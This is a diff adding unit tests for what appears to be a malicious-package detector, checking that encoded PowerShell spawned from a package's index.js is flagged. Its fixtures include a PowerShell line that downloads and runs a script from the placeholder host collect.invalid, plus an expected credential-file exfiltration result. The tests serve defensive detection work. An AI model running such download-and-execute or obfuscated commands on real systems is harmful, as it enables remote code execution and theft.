@@ -82,4 +82,30 @@ describe('commands', () => {
     assert.deepEqual(run('DATA: s'), ['credential-file>command-argument@collect.invalid']);
     assert.deepEqual(run(`DATA: 'hello', OTHER: s`), []);
   });
+
+  describe('that PowerShell gets encoded', () => {
+    const done = (command: string): readonly string[] =>
+      analysePackage(
+        packageOf({
+          'index.js': `const cp = require('child_process'); module.exports = () => cp.spawn('powershell', ['-NoProfile', '-EncodedCommand', ${command}]);`,
+        }),
+      ).behaviours.map(({ kind }) => kind);
+    const list = 'Get-CimInstance Win32_Process | Select-Object ProcessId, ParentProcessId';
+    const inBase64 = Buffer.from(list, 'utf16le').toString('base64');
+
+    it('hide nothing where the code says openly what they are', () => {
+      assert.deepEqual(done(`Buffer.from('${list}', 'utf16le').toString('base64')`), []);
+    });
+
+    it('are hidden where they stand there encoded, or were encoded twice', () => {
+      assert.ok(done(`'${inBase64}'`).includes('encoded-command'));
+      const inHex = Buffer.from(list, 'utf16le').toString('hex');
+      assert.ok(done(`Buffer.from('${inHex}', 'hex').toString('base64')`).includes('encoded-command'));
+    });
+
+    it('do what they say in either case', () => {
+      const evil = `iex (iwr https://collect.invalid/a.ps1)`;
+      assert.ok(done(`Buffer.from('${evil}', 'utf16le').toString('base64')`).includes('download-and-run'));
+    });
+  });
 });
